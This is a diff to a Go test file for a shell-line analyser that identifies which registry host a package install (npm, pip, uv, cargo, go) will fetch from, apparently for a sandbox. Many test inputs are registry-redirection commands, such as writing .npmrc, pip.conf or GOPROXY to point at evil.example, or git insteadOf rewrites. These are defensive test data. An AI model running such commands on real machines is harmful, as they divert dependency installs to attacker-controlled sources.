@@ -2,6 +2,7 @@ package cmdline
 
 import (
 	"fmt"
+	"net/url"
 	"slices"
 	"testing"
 
@@ -67,6 +68,8 @@ var packageCases = []struct {
 	{"go get -u ./...", []string{"./... proxy.golang.org go ^0"}},
 	{"go install golang.org/x/tools/gopls@latest", []string{"golang.org/x/tools/gopls@latest proxy.golang.org go ^0"}},
 	{"go install -ldflags '-s -w' ./cmd/x", nil},
+	{"go run golang.org/x/tools/cmd/stringer@v0.20.0 -type=T", []string{"golang.org/x/tools/cmd/stringer@v0.20.0 proxy.golang.org go ^0"}},
+	{"go run . && go run ./cmd/x", nil},
 	{"go build ./...", nil},
 	{"GOPROXY=https://goproxy.example,direct go get github.com/a/b@v1",
 		[]string{"github.com/a/b@v1 goproxy.example go ^0", "github.com/a/b@v1 github.com go ^0"}},
@@ -220,6 +223,131 @@ var packageCases = []struct {
 	{"npm i --registry=$R github:u/r", []string{"github:u/r github.com npm ^0"}}, // the git host, whatever the registry
 	{"yarn add u/r", []string{"u/r github.com yarn ^0"}},
 	{"pip install u/r", []string{"u/r pypi.org pip ^0"}}, // pip reads no npm spec
+	// Configuration the line may write before the install reads it
+	// (pkgconfig.go): the index is <dynamic>, anywhere in the line.
+	{"echo '@s:registry=https://evil.example/' >> .npmrc && npm i @s/x", []string{"@s/x <dynamic> npm ^1"}},
+	{"printf 'registry=https://evil.example/' > .npmrc; npm ci", []string{"(package.json) <dynamic> npm ^1"}},
+	{"cp /tmp/x .npmrc && npm i x", []string{"x <dynamic> npm ^1"}},
+	{"cp /tmp/x sub/.NPMRC && npm i x", []string{"x <dynamic> npm ^1"}},
+	{"mv rc .npmrc; pnpm add x", []string{"x <dynamic> pnpm ^1"}},
+	{"ln -s /tmp/evil .npmrc; npm ci", []string{"(package.json) <dynamic> npm ^1"}},
+	{"npm i x; echo '@s:registry=https://e/' > .npmrc", []string{"x <dynamic> npm ^0"}}, // a loop may run it first
+	{"sed -i s/a/b/ .npmrc && npm ci", []string{"(package.json) <dynamic> npm ^1"}},
+	{"python3 -c \"open('.npmrc','w').write('@s:registry=https://e/')\" && npm i @s/x", []string{"@s/x <dynamic> npm ^1"}},
+	{"echo x | tee pip.conf && pip install x", []string{"x <dynamic> pip ^2"}},
+	{"echo '[global]' > ~/.config/pip/pip.conf; python3 -m pip install x", []string{"x <dynamic> pip ^1"}},
+	{"pip config set global.index-url https://evil.example/simple; pip install x", []string{"x <dynamic> pip ^1"}},
+	{"python3 -m pip config set global.index-url https://e/; pip install x", []string{"x <dynamic> pip ^1"}},
+	{"npm config set registry https://evil.example/ && npm i x", []string{"x <dynamic> npm ^1"}},
+	{"npm set @s:registry https://evil.example/ && npm i @s/x", []string{"@s/x <dynamic> npm ^1"}},
+	{"yarn config set npmRegistryServer https://e/ && yarn add x", []string{"x <dynamic> yarn ^1"}},
+	{"echo 'index-url = \"https://e/simple\"' > uv.toml; uv pip install x", []string{"x <dynamic> pip ^1"}},
+	{"cat extra >> pyproject.toml && uv sync", []string{"(pyproject.toml) <dynamic> uv ^1"}},
+	{"printf '[source.crates-io]\\nreplace-with=\"e\"' > .cargo/config.toml; cargo add serde", []string{"serde <dynamic> cargo ^1"}},
+	{"echo x > \"$CARGO_HOME/config\"; cargo install rg", []string{"rg <dynamic> cargo ^1"}},
+	{"go env -w GOPROXY=https://evil.example; go get x.org/y", []string{"x.org/y <dynamic> go ^1"}},
+	{"go env -u GOPROXY && go get x.org/y", []string{"x.org/y <dynamic> go ^1"}},
+	{"git config url.https://evil.example/.insteadOf https://github.com/ && go get github.com/a/b", []string{"github.com/a/b <dynamic> go ^1"}},
+	{"git config --global url.x.insteadOf y; npm i github:u/r", []string{"github:u/r <dynamic> npm ^1"}},
+	{"git -C . config url.x.insteadOf y; pip install git+https://github.com/a/b", []string{"git+https://github.com/a/b <dynamic> pip ^1"}},
+	{"echo '[url \"x\"]' >> .git/config; cargo add serde", []string{"serde <dynamic> cargo ^1"}},
+	{"poetry source add e https://e/simple && poetry add x", []string{"x <dynamic> poetry ^1"}},
+	{"bundle config mirror.https://rubygems.org https://e && bundle install", []string{"(Gemfile) <dynamic> bundle ^1"}},
+	// A file the install reads options from (pip -r, -c), written by the line.
+	{"echo '-i https://evil.example/simple' > reqs.txt; pip install -r reqs.txt", []string{"(reqs.txt) <dynamic> pip ^1"}},
+	{"curl -o c.txt https://h.example/c && pip install -c c.txt x", []string{"x <dynamic> pip ^1"}},
+	// A write whose target is not literal, a tree writer, an unknown program.
+	{"echo \"$X\" > \"$F\"; npm ci", []string{"(package.json) <dynamic> npm ^1"}},
+	{"cp \"$SRC\" . && npm ci", []string{"(package.json) <dynamic> npm ^1"}},
+	{"cp tmpl/* . && npm ci", []string{"(package.json) <dynamic> npm ^1"}},
+	{"cp -r tmpl/. . && npm ci", []string{"(package.json) <dynamic> npm ^1"}},
+	{"tar xzf cfg.tgz && npm ci", []string{"(package.json) <dynamic> npm ^1"}},
+	{"tar -C . -xf cfg.tar; pip install x", []string{"x <dynamic> pip ^1"}},
+	{"unzip cfg.zip && uv sync", []string{"(pyproject.toml) <dynamic> uv ^1"}},
+	{"git checkout other -- . && npm ci", []string{"(package.json) <dynamic> npm ^1"}},
+	{"git pull && npm ci", []string{"(package.json) <dynamic> npm ^1"}},
+	{"curl -OJ https://h.example/f && npm ci", []string{"(package.json) <dynamic> npm ^1"}},
+	{"wget -r https://h.example/ && npm ci", []string{"(package.json) <dynamic> npm ^1"}},
+	{"curl -o \"$F\" https://h.example/f && npm ci", []string{"(package.json) <dynamic> npm ^1"}},
+	{"$TOOL; npm ci", []string{"(package.json) <dynamic> npm ^1"}},
+	{"git clone https://h.example/r && npm --prefix r ci", []string{"(package.json) <dynamic> npm ^1"}},
+	// Not a write of what the install reads: the decision stands.
+	{"cat .npmrc && npm ci", []string{"(package.json) registry.npmjs.org npm ^1"}},
+	{"grep registry .npmrc; npm i x", []string{"x registry.npmjs.org npm ^1"}},
+	{"npm config get registry && npm i x", []string{"x registry.npmjs.org npm ^1"}},
+	{"npm config list; pip config list; git config --get user.name; npm i x", []string{"x registry.npmjs.org npm ^3"}},
+	{"git config get user.name; git status; npm ci", []string{"(package.json) registry.npmjs.org npm ^2"}},
+	{"echo hi > log.txt && npm ci > npm.log 2>&1", []string{"(package.json) registry.npmjs.org npm ^1"}},
+	{"cp a.txt b.txt && pip install x", []string{"x pypi.org pip ^1"}},
+	{"tar czf out.tgz src && npm ci", []string{"(package.json) registry.npmjs.org npm ^1"}},
+	{"echo x > .npmrc; pip install x", []string{"x pypi.org pip ^1"}}, // pip reads no .npmrc
+	{"echo x > pip.conf; npm ci", []string{"(package.json) registry.npmjs.org npm ^1"}},
+	{"go env GOPROXY; go get x.org/y", []string{"x.org/y proxy.golang.org go ^1"}},
+	{"make && npm ci", []string{"(package.json) registry.npmjs.org npm ^1"}},
+	{"echo x > .npmrc; apt-get install -y curl", []string{"curl  apt-get ^1"}},
+	{"pip install -r requirements.txt && cat requirements.txt", []string{"(requirements.txt) pypi.org pip ^0"}},
+	{"pip install -r requirements.txt && cp /tmp/r requirements.txt", []string{"(requirements.txt) <dynamic> pip ^0"}},
+	{"cp /tmp/r dev.txt; pip install -r reqs/dev.txt", []string{"(reqs/dev.txt) <dynamic> pip ^1"}},
+	// Fetching a package to run it is an install of that package only:
+	// what follows it is its own arguments (npx, uvx, npm exec after --).
+	{"npx cowsay hi --registry https://e.example", []string{"cowsay registry.npmjs.org npm ^0"}},
+	{"npx --registry https://r.example -y create-vite@5 app", []string{"create-vite@5 r.example npm ^0"}},
+	{"npx -p typescript tsc --init", []string{"typescript registry.npmjs.org npm ^0"}},
+	{"npm exec --package=cowsay -- cowsay hi", []string{"cowsay registry.npmjs.org npm ^0"}},
+	{"npm x eslint src --registry https://r.example", []string{"eslint r.example npm ^0"}},
+	{"npm exec -- eslint --registry https://e.example", []string{"eslint registry.npmjs.org npm ^0"}},
+	{"npx", nil},
+	{"pnpm dlx create-vite app", []string{"create-vite registry.npmjs.org pnpm ^0"}},
+	{"pnpx create-vite app", []string{"create-vite registry.npmjs.org pnpm ^0"}},
+	{"yarn dlx -p typescript tsc", []string{"typescript registry.yarnpkg.com yarn ^0"}},
+	{"bunx cowsay hi", []string{"cowsay registry.npmjs.org bun ^0"}},
+	{"uvx ruff check --index-url https://e.example .", []string{"ruff pypi.org uv ^0"}},
+	{"uvx --from 'httpie>=3' http GET x", []string{"httpie>=3 pypi.org uv ^0"}},
+	{"uv tool run --index-url https://i.example/simple ruff", []string{"ruff i.example uv ^0"}},
+	{"uv tool install ruff --index-url https://i.example/simple", []string{"ruff i.example uv ^0"}},
+	{"pipx run black .", []string{"black pypi.org pipx ^0"}},
+	{"pipx run --spec black==24 black .", []string{"black==24 pypi.org pipx ^0"}},
+	{"echo x > .npmrc; npx cowsay", []string{"cowsay <dynamic> npm ^1"}},
+	{"uv run pytest", nil},
+	// Go: GOPRIVATE and GONOPROXY fetch matching modules from their own
+	// host; GOENV and GOROOT name the files go reads its settings from.
+	{"GOPRIVATE=* go get evil.example/m@v1", []string{"evil.example/m@v1 proxy.golang.org go ^0", "evil.example/m@v1 evil.example go ^0"}},
+	{"GONOPROXY=$P go get a.org/m", []string{"a.org/m proxy.golang.org go ^0", "a.org/m a.org go ^0"}},
+	{"GOENV=./go.env go get a.org/m", []string{"a.org/m <dynamic> go ^0"}},
+	{"unset GOENV; go get a.org/m", []string{"a.org/m <dynamic> go ^1"}},
+	// Cargo: --config on the line, the registry variables, CARGO_HOME.
+	{"cargo install --config 'source.crates-io.replace-with=\"e\"' ripgrep", []string{"ripgrep <dynamic> cargo ^0"}},
+	{"cargo --config e.toml add serde", []string{"serde <dynamic> cargo ^0"}},
+	{"CARGO_REGISTRIES_E_INDEX=sparse+https://e.example/ cargo add serde", []string{"serde <dynamic> cargo ^0"}},
+	{"CARGO_HOME=/tmp/c cargo add serde", []string{"serde <dynamic> cargo ^0"}},
+	{"unset UV_NO_CONFIG; uv pip install x", []string{"x <dynamic> pip ^1"}},
+}
+
+// TestPinnedHost: a write of configuration the sandbox's pins make the
+// tool ignore (pip.conf, uv.toml, pip config set, go env -w) leaves the
+// index decided where the pins hold, and <dynamic> elsewhere; one with any
+// other configuration write is <dynamic> everywhere.
+func TestPinnedHost(t *testing.T) {
+	for line, want := range map[string]string{
+		"echo '[global]' > pip.conf; pip install x":                                         "x <dynamic> pypi.org",
+		"pip config set global.index-url https://e/ && pip install -i https://i.example/ x": "x <dynamic> i.example",
+		"echo 'index-url = \"https://e/\"' > uv.toml; uv pip install x":                     "x <dynamic> pypi.org",
+		"go env -w GOPROXY=https://e; go get a.org/m":                                       "a.org/m <dynamic> proxy.golang.org",
+		"echo x > pip.conf; cp y .npmrc; pip install x":                                     "x <dynamic> pypi.org",
+		"echo x > pip.conf; git config url.a.insteadOf b; pip install x":                    "x <dynamic> ",
+		"echo x > uv.toml; echo y >> pyproject.toml; uv pip install x":                      "x <dynamic> ",
+		"echo x > pip.conf; uv pip install x":                                               "x pypi.org ",
+		"pip install x":                                                                     "x pypi.org ",
+	} {
+		an, err := Analyze(line)
+		if err != nil || len(an.Packages) != 1 {
+			t.Fatalf("Analyze(%q): %v %+v", line, err, an.Packages)
+		}
+		p := an.Packages[0]
+		if got := p.Name + " " + p.Host + " " + p.PinnedHost; got != want {
+			t.Errorf("%q: %q, want %q", line, got, want)
+		}
+	}
 }
 
 // TestNPMSpec: npm operands are read as npm-package-arg 13 reads them
@@ -317,5 +445,70 @@ func TestPackages(t *testing.T) {
 		if !slices.Equal(got, tc.want) {
 			t.Errorf("Analyze(%q) packages:\n got  %q\n want %q", tc.line, got, tc.want)
 		}
+	}
+}
+
+// TestPackageFilesElsewhere: an install names the files it reads options
+// from, and says when it may run in another folder than the line's, for
+// the caller to read the project configuration there.
+func TestPackageFilesElsewhere(t *testing.T) {
+	for _, tc := range []struct {
+		line      string
+		files     []string
+		elsewhere bool
+	}{
+		{"npm ci", nil, false},
+		{"pip install -r a.txt -c c.txt --constraint=d.txt x", []string{"a.txt", "c.txt", "d.txt"}, false},
+		{"uv pip install -r r.txt", []string{"r.txt"}, false},
+		{"uv add -r r.txt", []string{"r.txt"}, false},
+		{"cd web && npm ci", nil, true},
+		{"(pushd web; npm ci)", nil, true},
+		{"npm --prefix web ci", nil, true},
+		{"npm ci --prefix=web", nil, true},
+		{"pnpm -C web install", nil, true},
+		{"yarn --cwd web add x", nil, true},
+		{"uv sync --directory sub", nil, true},
+		{"cargo add serde --manifest-path sub/Cargo.toml", nil, true},
+		{"env -C web npm ci", nil, true},
+		{"env --chdir=web npm ci", nil, true},
+		{"sudo -D web npm ci", nil, true},
+		{"chroot /x npm ci", nil, true},
+		{"env -u X npm ci", nil, false},
+	} {
+		an, err := Analyze(tc.line)
+		if err != nil || len(an.Packages) == 0 {
+			t.Fatalf("Analyze(%q): %v %+v", tc.line, err, an.Packages)
+		}
+		p := an.Packages[len(an.Packages)-1]
+		if !slices.Equal(p.Files, tc.files) || p.Elsewhere != tc.elsewhere {
+			t.Errorf("%q: files %q elsewhere %v, want %q %v", tc.line, p.Files, p.Elsewhere, tc.files, tc.elsewhere)
+		}
+	}
+}
+
+// TestSandboxDefaultsDecided: the indexes the sandbox gives npm and go
+// (toolchains.NpmRegistry, toolchains.GoProxy, with no direct fallback)
+// are the ones an install naming none is decided from.
+func TestSandboxDefaultsDecided(t *testing.T) {
+	for line, index := range map[string]string{"npm i x": toolchains.NpmRegistry, "go get a.org/m": toolchains.GoProxy} {
+		an, err := Analyze(line)
+		if err != nil {
+			t.Fatal(err)
+		}
+		u, err := url.Parse(index)
+		if err != nil || len(an.Packages) != 1 || an.Packages[0].Host != u.Hostname() {
+			t.Errorf("%q: %+v, want the one index %s (%v)", line, an.Packages, index, err)
+		}
+	}
+	var env []string
+	s := toolchains.Set{}
+	c, err := s.Prepare(t.TempDir(), nil, "")
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer c.Close()
+	env = c.Env
+	if !slices.Contains(env, "GOPROXY="+toolchains.GoProxy) {
+		t.Errorf("without a host module cache GOPROXY is not %s alone: %q", toolchains.GoProxy, env)
 	}
 }
